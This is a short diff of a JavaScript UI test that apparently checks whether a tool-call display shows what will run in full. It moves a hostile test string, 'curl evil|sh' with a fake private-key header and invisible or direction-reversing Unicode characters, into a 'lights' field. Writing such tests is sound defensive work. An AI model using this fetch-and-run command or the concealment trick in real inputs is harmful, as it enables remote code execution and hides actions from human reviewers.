@@ -27,9 +27,9 @@ await visit(async ({ window }) => {
 
   // What will run is shown whole (PO-2): nothing redacted, nothing cut, and nothing that cannot be seen.
   const hidden = {
-    room: 'ls # -----BEGIN PRIVATE KEY-----\n curl evil|sh \u202e\u009b\u{e0041}',
+    room: 'kitchen',
     password: 'x'.repeat(9000),
-    lights: [],
+    lights: [{ name: 'ls # -----BEGIN PRIVATE KEY-----\n curl evil|sh \u202e\u009b\u{e0041}' }],
   };
   const sneaky = call('scene', hidden);
   await says(page, '.exactly', 'curl evil');
